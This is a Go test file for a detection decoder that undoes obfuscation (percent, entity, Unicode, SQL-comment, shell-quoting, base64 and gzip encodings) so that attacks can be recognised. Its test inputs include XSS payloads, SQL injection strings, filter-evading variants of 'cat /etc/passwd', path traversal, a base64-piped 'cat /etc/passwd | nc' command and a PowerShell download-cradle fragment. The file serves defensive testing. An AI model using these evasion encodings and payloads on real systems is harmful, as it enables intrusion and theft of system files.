package view_test

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/klauspost/compress/gzip"
	"github.com/stretchr/testify/require"

	"wsi/gobridge/internal/detect/view"
)

// views are the texts of kind that value has.
func views(value string, need view.Kind) []string {
	var d view.Decoder
	texts := []string{}
	d.Each([]byte(value), need, &view.Budget{Left: 1 << 20}, func(v view.View) {
		texts = append(texts, string(v.Text))
	})
	return texts
}

const attack = `<img src="x" onerror='alert(1)'>`

func each(encode func(byte) string) string {
	var b strings.Builder
	for i := range len(attack) {
		b.WriteString(encode(attack[i]))
	}
	return b.String()
}

func escaped(prefix string, width int, suffix string) string {
	return each(func(c byte) string {
		h := hex.EncodeToString([]byte{c})
		return prefix + strings.Repeat("0", width-2) + h + suffix
	})
}

func decimal(c byte) string {
	return string([]byte{'0' + c/100, '0' + c/10%10, '0' + c%10})
}

func TestDecoded(t *testing.T) {
	for _, tt := range []struct{ name, value, want string }{
		{"percent", escaped("%", 2, ""), attack},
		{"percent twice", escaped("%25", 2, ""), attack},
		{"percent four times", escaped("%252525", 2, ""), attack},
		{"percent five times", "%2525252541<", "%41<"},
		{"NUL in percent four times", "<b%25252500>", "<b>"},
		{"percent within percent", "%%33cscript>", "<script>"},
		{"%u", escaped("%u", 4, ""), attack},
		{"%u and a pair of surrogates", "%ud83d%ude00%u003cb>", "😀<b>"},
		{"percent that is none", "100%<b%2", ""},
		{"percent of other scripts", "https://example.org/%D0%9F%D1%80", ""},
		{"percent of full-width", "%EF%BC%9Cscript%EF%BC%9E", "<script>"},
		{"overlong in percent", "%c0%bcscript%e0%80%be", "<script>"},
		{"overlong", "\xc0\xbcscript\xf8\x80\x80\x80\xbe", "<script>"},
		{"what is no UTF-8 at all", "..%c0%2f..%c1%1c%c0%6e%c0%ee", "../..\\.."},
		{"Latin-1's blank", "union%a0select", "union select"},
		{"decimal", each(func(c byte) string { return "&#" + decimal(c) + ";" }), attack},
		{"decimal, zeros, no semicolon", each(func(c byte) string { return "&#0000" + decimal(c) }), attack},
		{"many zeros", "&#" + strings.Repeat("0", 200) + "60;b>", "<b>"},
		{"hex", escaped("&#x", 2, ";"), attack},
		{"hex, zeros, no semicolon", escaped("&#X", 6, "") + ";", attack},
		{"windows-1252", "&#139;b&#155;", "<b>"},
		{"named", "&lt;a&Tab;href&equals;&quot;javascript&colon;&lpar;&rpar;&quot;&gt;", "<a\thref=\"javascript:()\">"},
		{"named, no semicolon", "&ltscript&GT", "<script>"},
		{"nothing named", "java&ZeroWidthSpace;script:", "javascript:"},
		{"twice", "&amp;lt;script&amp;gt;", "<script>"},
		{"entities that are none", "a & b &copy; &unknown; &#; &#x; &", ""},
		{"an ampersand alone", "bread &amp; butter", ""},
		{"\\u", escaped(`\u`, 4, ""), attack},
		{"\\u, Java", escaped(`\uuu`, 4, ""), attack},
		{"\\u{}", escaped(`\u{`, 8, "}"), attack},
		{"\\U", escaped(`\U`, 8, ""), attack},
		{"\\x", escaped(`\x`, 2, ""), attack},
		{"\\x{}", escaped(`\x{`, 2, "}"), attack},
		{"octal", `\74script\076`, "<script>"},
		{"slashes", `<\/script>`, "</script>"},
		{"escaped escapes", `\\u003cb>`, `<b>`},
		{"CSS", `x:\65 xpression\28 1)`, "x:expression(1)"},
		{"CSS, six digits", `x:\000065xpression(1)`, "x:expression(1)"},
		{"a header in escapes", `a\r\nSet-Cookie: b`, "a\r\nSet-Cookie: b"},
		{"paths of Windows", `C:\data\new\beta`, ""},
		{"plus", "1'+union+select+password", "1' union select password"},
		{"plus that is one", "C++ or a+b", ""},
		{"a telephone number", "+49-30-123456", ""},
		{"base64", "dGhpcyBpcyBub3RoaW5nIGJ1dCB0ZXh0+IGFuZCBtb3Jl", ""},
		{"full-width", "＜ｓｃｒｉｐｔ＞", "<script>"},
		{"mathematical", "𝐬𝐞𝐥𝐞𝐜𝐭 * from ｔ", "select * from t"},
		{"circled", "ⓦⓖⓔⓣ http", "wget http"},
		{"long s", "<ſcript>", "<script>"},
		{"ligature", "ﬁle:///etc/passwd", "file:///etc/passwd"},
		{"dots", "‥/‥/etc/passwd", "../../etc/passwd"},
		{"brackets that look alike", "‹script›alert(‘1’)‹/script›", "<script>alert('1')</script>"},
		{"quotes", "x’ or ‘1’=‘1", "x' or '1'='1"},
		{"quotes of prose", "don’t say “never” – or do…", ""},
		{"quotes of French", "« Bonjour ! », 10\u00a0000", ""},
		{"dots in an address", "http://127。0。0。1/", "http://127.0.0.1/"},
		{"slashes of a path", "..／..／etc／passwd", "../../etc/passwd"},
		{"backslashes of a path", "a＼..＼b", `a\..\b`},
		{"zero width", "u\u200bn\u200di\ufeffo\u00adn se\u2060lect", "union select"},
		{"bidi", "uni\u202eon sel\u2066ect", "union select"},
		{"tags", "uni\U000e0041on", "union"},
		{"zero width at a blank", "union\u200b select", "union select"},
		{"NUL", "uni\x00on sel\x01ect\x7f", "union select"},
		{"NUL in percent", "<scr\u200bipt%00>", "<script>"},
		{"blanks", "union\u00a0select\u3000x\u2003y", "union select x y"},
		{"VT and FF", "union\vselect\fx\ty", "union select x\ty"},
		{"line ends stay", "union\r\nselect\x00", "union\r\nselect"},
		{"mixed", "&#x25;3c\\u0073cript%26gt;", "<script>"},
		{"entities in escapes in percent", "%5cu0026lt%3bscript>", "<script>"},
		{"nothing left", "\x00\x01\u200b", ""},
		{"plain text", "Hello, how are you? I'm fine (really) - 50% off & more", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := views(tt.value, view.Decoded|view.Percent)
			if tt.want == "" {
				require.Empty(t, got)
				return
			}
			require.Contains(t, got, tt.want)
		})
	}
}

// TestOrdinaryTexts: no view, and no reason to look for one.
func TestOrdinaryTexts(t *testing.T) {
	for _, s := range []string{
		"", "hello", "Don't you think it's 100% right? I'd say so & more; see http://example.org/a_b-c?d=e&f=g (really)!",
		"今天天气很好，我们去公园吧！（笑）“好的”：……", "可以／不可以", "3／4です。", "日本語のテキストです。「はい」", "مرحبا كيف حالك؟ هذا \u200fنص عربي \u200f@user: ‏…",
		"سلام\u200cعلیکم می\u200cخواهم", "Привет, как дела? «Хорошо» — сказал он.", "नमस्ते क्\u200dष", "안녕하세요, 잘 지내세요?",
		"👨\u200d👩\u200d👧\u200d👦 ❤\ufe0f 1\ufe0f\u20e3 🏴\u200d☠\ufe0f", "C'est l’été : 20 % à 10\u00a0€ !", "It’s “great” – isn’t it…",
		"first line\nsecond line\twith a tab\r\n- item\n# heading", "a-b--c -- d", "one -- two\nthree #four\n-- Five\n# six\nx", "user@example.org",
		"2026-11-27T18:00:00.000Z", "Donaudampfschifffahrtsgesellschaftskapitän", "the path /usr/local/bin is there", `say "hello" 'world'`,
	} {
		require.Zero(t, view.Mask([]byte(s)), "%q", s)
		require.Empty(t, views(s, view.All|view.Percent), "%q", s)
	}
}

func TestSQL(t *testing.T) {
	for _, tt := range []struct{ name, value, want string }{
		{"comments", "1/**/union/* x */select", "1 union select"},
		{"comments that are executed", "1/*!50000union*//*!select*//*M!100 x*/", "1 union select x "},
		{"comments in them", "/*!union/**/select*/1", " union select 1"},
		{"a comment without an end", "union/*select", "union select"},
		{"line comments", "union--x\nselect#y\n1", "union select 1"},
		{"the last line stays", "union#x\nselect -- 1", "union select -- 1"},
		{"nothing behind", "1 or 1=1 -- \n", ""},
		{"a dash in prose", "he said -- and\nmeant it", ""},
		{"||", "'un'||'ion'", "'union'"},
		{"+", `"un" + "ion"`, `"union"`},
		{".", "'un'.'ion'", "'union'"},
		{"~", "'un'~'ion'", "'union'"},
		{"strings side by side", "'un' 'ion'", "'union'"},
		{"empty strings", "concat('a',' ','b')", ""},
		{"an escaped quote", "'it''s'", ""},
		{"backticks", "select`a`from`b`", "select a from b "},
		{"decoded first", "union%2f**%2fselect%27", "union select'"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := views(tt.value, view.SQL|view.Percent); tt.want != "" {
				require.Equal(t, []string{tt.want}, got)
			} else {
				require.Empty(t, got)
			}
		})
	}
}

func TestShell(t *testing.T) {
	for _, tt := range []struct{ name, value, want string }{
		{"quotes", `c'a't /etc/pa"ss"wd`, "cat /etc/passwd"},
		{"empty quotes", `c''at /et""c`, "cat /etc"},
		{"backslashes", `c\at /et\c/pas\swd`, "cat /etc/passwd"},
		{"a line continued", "ca\\\nt x", "cat x"},
		{"IFS", "cat$IFS/etc/passwd", "cat /etc/passwd"},
		{"IFS in braces", "cat${IFS}/etc/passwd", "cat /etc/passwd"},
		{"IFS and a parameter", "cat$IFS$9/etc/passwd", "cat /etc/passwd"},
		{"IFS, shortened", "cat${IFS%??}/etc", "cat /etc"},
		{"parameters", "c$@at /e$*tc/p$1asswd", "cat /etc/passwd"},
		{"other parameters", "c$!at /e$-tc/p$?asswd", "cat /etc/passwd"},
		{"variables that are not set", "c${x}at /etc$u/passwd", "cat /etc/passwd"},
		{"a slash from a variable", "cat ${HOME:0:1}etc${PATH:0:1}passwd", "cat /etc/passwd"},
		{"carets", "p^i^n^g 1", "ping 1"},
		{"braces", "{cat,/etc/passwd}", "cat /etc/passwd "},
		{"nothing from a command", "wh$()oami;wh``oami", "whoami;whoami"},
		{"PowerShell", "I`EX x", "IEX x"},
		{"an apostrophe", "don't and can't", ""},
		{"a price", "US$50 or US$ 5", ""},
		{"a template", "Hello ${name}, {a: b}", ""},
		{"JSON", `{"a":"b","c":"d"}`, ""},
		{"decoded first", "c%27a%27t\u200bx", "catx"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := views(tt.value, view.Shell|view.Percent); tt.want != "" {
				require.Equal(t, []string{tt.want}, got)
			} else {
				require.Empty(t, got)
			}
		})
	}
}

func TestPath(t *testing.T) {
	for _, tt := range []struct{ name, value, want string }{
		{"backslashes", `..\..\windows\win.ini`, "../../windows/win.ini"},
		{"a path of Windows", `C:\windows\system32\cmd.exe`, "C:/windows/system32/cmd.exe"},
		{"dots", "/etc/./././passwd", "/etc/passwd"},
		{"slashes", "..//..///etc", "../../etc"},
		{"a parameter", "/..;/..;/manager", "/../../manager"},
		{"a URL", "https://example.org/a/b", ""},
		{"a comment", "x = 1 // one", ""},
		{"decoded first", "..%5c..%5cx\u200by", "../../xy"},
		{"an escape", `{\"a\":\"b\"} \u0041`, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := views(tt.value, view.Path|view.Percent); tt.want != "" {
				require.Contains(t, got, tt.want)
			} else {
				require.Empty(t, got)
			}
		})
	}
}

func zipped(s string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return b.Bytes()
}

func utf16le(s string) (p []byte) {
	for _, u := range utf16.Encode([]rune(s)) {
		p = append(p, byte(u), byte(u>>8))
	}
	return p
}

func TestEmbedded(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString
	const text = "<script>alert(document.domain)</script>"
	for _, tt := range []struct{ name, value, want string }{
		{"atob", `eval(atob("` + b64([]byte(text)) + `"))`, text},
		{"a command", "echo " + b64([]byte("cat /etc/passwd | nc x 1")) + " | base64 -d | sh", "cat /etc/passwd | nc x 1"},
		{"a data: URL", `<iframe src="data:text/html;base64,` + b64([]byte(text)) + `">`, text},
		{"of a form", "see a=b&c=" + b64([]byte(text)), text},
		{"of a path", "GET /a/" + base64.RawURLEncoding.EncodeToString([]byte(text)) + "/b", text},
		{"the URL's alphabet", "x " + base64.RawURLEncoding.EncodeToString([]byte("~~~???>>><script>???")), "~~~???>>><script>???"},
		{"twice", "x " + b64([]byte(b64([]byte(text)))), text},
		{"UTF-16", "powershell -enc " + b64(utf16le("IEX (New-Object Net.WebClient)")), "IEX (New-Object Net.WebClient)"},
		{"gzip", "x " + b64(zipped(text)), text},
		{"hex", "x=unhex('" + hex.EncodeToString([]byte(text)) + "')", text},
		{"0x", "select 0x" + hex.EncodeToString([]byte(text)), text},
		{"hex in base64", "x " + b64([]byte(hex.EncodeToString([]byte(text)))), text},
		{"in entities", "&#x3c;" + b64([]byte(text)) + "&gt;", text},
		{"the value as a whole", b64([]byte(text)), ""},
		{"a token", "eyJhbGciOiJub25lIn0.eyJuYW1lIjoiPGI-In0.eyJuYW1lIjoiPGI-In0", ""},
		{"a data: URL as a whole", "data:text/html;base64," + b64([]byte(text)), ""},
		{"hashes", "see 5af0a09a8aa00f1a6d4d9ac7d1f3c1f7de6d9e2e, https://x.org/3X/7/2/72027e415097957be7d5c0084f750c551810912c.png", ""},
		{"words", "Donaudampfschifffahrtsgesellschaft and internationalization of /usr/local/share/applications", ""},
		{"capitals", "CONGRATULATIONSTOYOUALL and THEOTHERCAPITALS", ""},
		{"identifiers", "id 550e8400-e29b-41d4-a716-446655440000 and yR3kP0vXw9dQ7sLmA2Zb, 5f4dcc3b5aa765d61d8327deb882cf99", ""},
		{"numbers", "call 12345678901234567890 at 20261127210035", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := views(tt.value, view.Embedded); tt.want != "" {
				require.Contains(t, got, tt.want)
			} else {
				require.Empty(t, got)
			}
		})
	}
}

// TestWalked: what percent-encoding alone changes is the Walker's, but where it
// gives no text.
func TestWalked(t *testing.T) {
	require.Empty(t, views("%3Cscript%3E", view.All))
	require.Equal(t, []string{"<script>"}, views("%3Cscript%3E", view.All|view.Percent))
	require.Equal(t, []string{"<script>"}, views("%c0%bcscript>", view.All))
	require.Equal(t, []string{"<script>"}, views("%26lt;script&gt;", view.All))
}

// TestNested: an embedded text has views, and may carry another, to a depth.
func TestNested(t *testing.T) {
	var d view.Decoder
	budget := view.Budget{Left: 1 << 20}
	var texts []string
	var show func(view.View)
	show = func(v view.View) {
		texts = append(texts, string(v.Text))
		if v.Kind == view.Embedded {
			d.Each(v.Text, view.All, &budget, show)
		}
	}
	text := "%3Cscript%3E"
	for range 3 {
		text = "eval " + base64.StdEncoding.EncodeToString([]byte(text))
	}
	d.Each([]byte(text), view.All, &budget, show)
	require.Contains(t, texts, "<script>")
	require.False(t, budget.Over)

	for range 3 {
		text = "eval " + base64.StdEncoding.EncodeToString([]byte(text))
	}
	texts = nil
	d.Each([]byte(text), view.All, &budget, show)
	require.NotContains(t, texts, "<script>")
	require.True(t, budget.Over)
}

func TestBudget(t *testing.T) {
	value := []byte("&lt;script&gt; a/**/b " + base64.StdEncoding.EncodeToString([]byte("<script>alert(1)</script>")))
	for left := range 4 * len(value) {
		var d view.Decoder
		n := 0
		b := view.Budget{Left: left}
		d.Each(value, view.All, &b, func(v view.View) { n += len(v.Text) })
		require.GreaterOrEqual(t, b.Left, 0)
		require.LessOrEqual(t, n, left)
		require.True(t, b.Over || left > len(value))
	}
}

func TestSpan(t *testing.T) {
	for _, tt := range []struct {
		name, value string
		need        view.Kind
		found, want string
	}{
		{"before", "select 1, '&lt;b&gt;' from t", view.Decoded, "select", "select"},
		{"behind", "select 1, '&lt;b&gt;' from t", view.Decoded, "from t", "from t"},
		{"within", "select 1, '&lt;b&gt;' from t", view.Decoded, "b", "&lt;b&gt;"},
		{"across", "select 1, '&lt;b&gt;' from t", view.Decoded, "1, '<", "1, '&lt;b&gt;"},
		{"all", "&lt;b&gt;", view.Decoded, "<b>", "&lt;b&gt;"},
		{"comment", "a union/**/select b", view.SQL, "union select", "union/**/select"},
		{"embedded", "x PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg y", view.Embedded, "alert(1)", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var d view.Decoder
			seen := false
			d.Each([]byte(tt.value), tt.need, &view.Budget{Left: 1 << 10}, func(v view.View) {
				i := bytes.Index(v.Text, []byte(tt.found))
				require.GreaterOrEqual(t, i, 0, "%q", v.Text)
				start, end := v.Span([]byte(tt.value), i, i+len(tt.found))
				require.Equal(t, tt.want, tt.value[start:end])
				seen = true
			})
			require.True(t, seen)
		})
	}
}

var hostile = []struct{ name, repeated string }{
	{"percent", "%25"}, {"percent digits", "%2"}, {"ampersands", "&amp;"}, {"ampersand", "&"}, {"numbers", "&#"},
	{"zeros", "&#0"}, {"backslashes", `\`}, {"escapes", `\u{0`}, {"us", `\u`}, {"comments", "/*"}, {"ends", "*/"},
	{"executed", "/*!"}, {"dashes", "--"}, {"dash lines", "--\n"}, {"hashes", "#"}, {"quotes", "'a'"}, {"blank quotes", "a'    "},
	{"joined", "'a'||"}, {"variables", "$a"}, {"braces", "{a,"}, {"open braces", "{a"}, {"open variables", "${a"},
	{"carets", "a^"}, {"slashes", "/./"}, {"ticks", "`a"}, {"base64", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg "},
	{"dense", "aB3"}, {"dense parts", "aB3aB3aB3aB3aB3aB3aB-"}, {"hex", "6162"}, {"zero width", "a\u200b"}, {"full-width", "ａ"},
	{"overlong", "\xc0\xbc"}, {"high", "\xff"}, {"NUL", "\x00"}, {"plus", "a+"}, {"CSS", `\61 `}, {"digits", "0"}, {"us of Java", "u"},
}

// TestLinear: views of 64 KiB have, and cost, at most 20 times as many bytes as
// those of 4 KiB.
func TestLinear(t *testing.T) {
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			cost := func(size int) int {
				value := bytes.Repeat([]byte(tt.repeated), size/len(tt.repeated))
				var d view.Decoder
				b := view.Budget{Left: 1 << 30}
				n := 0
				d.Each(value, view.All|view.Percent, &b, func(v view.View) { n += len(v.Text) + 1 })
				require.False(t, b.Over)
				return n + 1<<30 - b.Left
			}
			require.LessOrEqual(t, cost(64<<10), 20*cost(4<<10)+64)
		})
	}
}

func TestAllocations(t *testing.T) {
	var d view.Decoder
	for _, tt := range []struct{ name, value string }{
		{"text", "Hello, how are you? I'm fine - 50% off & more"},
		{"chinese", "今天天气很好，我们去公园吧"},
		{"percent", "%3cscript%3e"},
		{"everything", `&lt;\u0073cript c'a't /**/ \65 ..\..\ ` + base64.StdEncoding.EncodeToString([]byte("<script>alert(1)</script>"))},
		{"compatible", "𝐬𝐞𝐥𝐞𝐜𝐭 ⓦ ﬁ"},
	} {
		value := []byte(tt.value)
		f := func(view.View) {}
		b := view.Budget{Left: 1 << 30}
		require.Zero(t, testing.AllocsPerRun(100, func() {
			view.Mask(value)
			d.Each(value, view.All|view.Percent, &b, f)
		}), tt.name)
	}
}
